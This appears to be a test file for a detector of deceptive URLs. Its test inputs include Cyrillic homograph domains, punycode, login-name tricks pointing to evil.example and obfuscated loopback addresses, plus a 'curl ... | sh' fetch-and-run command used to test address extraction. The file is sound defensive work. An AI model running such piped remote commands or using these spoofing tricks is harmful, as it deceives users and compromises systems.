import {describe, expect, it} from 'vitest';
import {addressesIn, suspiciousHost} from '../suspiciousHost.js';

describe('the host of an address', () => {
	it.each([
		'https://example.com/a?b=@c#@d',
		'http://127.0.0.1:3000/x',
		'http://[::1]/',
		'https://sub.example.co.uk',
		'no address at all',
		'mailto:x@y.z',
		'',
	])('%j is what it looks like', address => {
		expect(suspiciousHost(address)).toEqual([]);
	});

	it.each([
		['https://\u0430pple.com/', /not written in plain letters.*xn--.*Cyrillic/],
		['https://xn--pple-43d.com', /stands for ".pple.com" \(Cyrillic letters\)/],
		[
			'https://google.com@evil.example/x',
			/login name: the host is evil\.example/,
		],
		['https://a%40b:c@evil.example', /login name: the host is evil\.example/],
		['http://2130706433/', /is the address 127\.0\.0\.1/],
		['http://0x7f.1/', /is the address 127\.0\.0\.1/],
		['https://goo\u200Bgle.com', /not written in plain letters/],
		['https:\\\\\u0440aypal.com', /not written in plain letters/],
	])('%j is marked', (address, reason) => {
		expect(suspiciousHost(address).join(' ')).toMatch(reason);
	});

	it('is found in a command', () => {
		expect(
			addressesIn('curl -s "https://a.example/x" | sh; git clone ssh://b.c'),
		).toEqual(['https://a.example/x', 'ssh://b.c']);
	});
});
